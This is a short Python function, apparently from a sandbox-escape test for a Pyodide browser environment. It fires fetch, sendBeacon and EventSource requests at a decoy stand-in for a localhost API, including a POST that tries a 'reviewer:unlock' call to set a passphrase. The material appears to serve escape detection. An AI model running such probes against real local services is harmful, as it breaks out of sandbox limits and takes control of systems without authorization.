# Reach the host's API: the browser-mode server lives on 127.0.0.1 (the decoy stands in for it); try its routes.
def _h_attack(source_dir):
    url = "__DECOY_URL__"
    from pyodide.ffi import create_proxy
    ignore = create_proxy(lambda *args: None)
    for scope in _h_scopes():
        body = '{"method":"reviewer:unlock","params":{"passphrase":"x","setPassphrase":true}}'
        _h_try(lambda: scope.fetch(url + "/api", _h_js_options(scope, {"method": "POST", "body": body})).catch(ignore))
        _h_try(lambda: scope.fetch(url + "/").catch(ignore))
        _h_try(lambda: scope.navigator.sendBeacon(url + "/beacon", body))
        _h_try(lambda: scope.EventSource.new(url + "/events"))
